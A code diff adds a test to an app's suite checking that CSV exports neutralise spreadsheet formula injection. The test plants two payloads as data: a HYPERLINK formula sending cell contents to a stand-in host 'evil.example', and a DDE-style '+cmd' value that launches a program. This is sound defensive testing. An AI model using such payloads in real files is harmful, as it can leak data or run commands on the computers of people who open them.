@@ -265,3 +265,18 @@ def test_backup_command(app, runner, rich_user, tmp_path):
     # The live database itself is refused.
     result = runner.invoke(args=["backup", source])
     assert result.exit_code != 0 and "live database" in result.output
+
+
+def test_csv_cells_cannot_run_as_formulas(make_user, login, client, clock):
+    """A question or note planted as a spreadsheet formula is exported inert (issue 19 item 6)."""
+    user = make_user("formula@example.com")
+    planted = add_question('=HYPERLINK("http://evil.example/?"&A1, "click")', source=Source.user,
+                           owner_id=user.id, tags=("@tag",))
+    db.session.add(Card(user_id=user.id, question_id=planted.id, due=FIXED_NOW, added_at=FIXED_NOW, note="+cmd|' /C calc'!A0"))
+    db.session.commit()
+    login(user)
+    with zipfile.ZipFile(io.BytesIO(client.get("/export/prep-export.zip").data)) as zf:
+        [card] = list(csv.DictReader(io.StringIO(zf.read("cards.csv").decode("utf-8-sig"))))
+    assert card["question"].startswith("'=HYPERLINK(") and card["note"].startswith("'+cmd")
+    assert card["tags"].startswith("'@tag")
+    assert card["stability"] == "" and card["reps"] == "0"  # numbers and empties untouched
